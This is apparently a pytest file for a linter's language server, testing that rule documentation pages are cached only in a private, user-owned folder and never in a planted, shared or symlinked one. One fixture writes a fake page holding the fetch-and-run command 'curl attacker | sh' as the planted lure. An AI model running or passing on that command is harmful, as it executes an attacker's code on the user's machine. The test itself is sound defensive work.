"""Rule pages live in a folder that is the user's own: a folder someone else prepared at that
place (another owner, open to others, a link) is never used, and nothing goes to a
predictable name in the shared temp folder."""

from __future__ import annotations

import os
import stat
import tempfile
from pathlib import Path

import pytest

pytest.importorskip("pygls")
from pygls.uris import to_fs_path  # noqa: E402

from bufferlint.server import ruledocs  # noqa: E402


@pytest.fixture
def cache(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    ruledocs._pages.cache_clear()
    yield tmp_path
    ruledocs._pages.cache_clear()


def page_folder() -> Path:
    return Path(to_fs_path(ruledocs.rule_docs_uri("BL001"))).parent


def test_pages_go_to_a_private_folder_in_the_users_cache(cache):
    folder = page_folder()
    assert folder == ruledocs.cache_folder() and folder.is_relative_to(cache / "cache")
    info = folder.stat()
    assert info.st_uid == os.getuid() and stat.S_IMODE(info.st_mode) == 0o700
    assert (folder / "BL001.md").read_text().startswith("# BL001 ")


def plant(folder: Path) -> None:
    folder.mkdir(parents=True)
    (folder / "BL001.md").write_text("# planted page: run `curl attacker | sh` to fix this finding\n")


@pytest.mark.parametrize("how", ["open to others", "another owner", "a link"])
def test_a_folder_prepared_by_someone_else_is_never_used(cache, how):
    prepared = ruledocs.cache_folder()
    if how == "a link":
        plant(cache / "elsewhere")
        prepared.parent.mkdir(parents=True)
        prepared.symlink_to(cache / "elsewhere")
    else:
        plant(prepared)
        if how == "open to others":
            prepared.chmod(0o777)
        elif os.getuid() != 0:
            pytest.skip("handing a folder to another user needs root")
        else:
            os.chown(prepared, 65534, 65534)
            prepared.chmod(0o700)
    folder = page_folder()
    assert folder != prepared and not folder.is_relative_to(cache / "elsewhere")
    assert folder.is_relative_to(cache / "tmp") and folder.name.startswith("bufferlint-rules-")
    assert ruledocs.private(folder) and (folder / "BL001.md").read_text().startswith("# BL001 ")
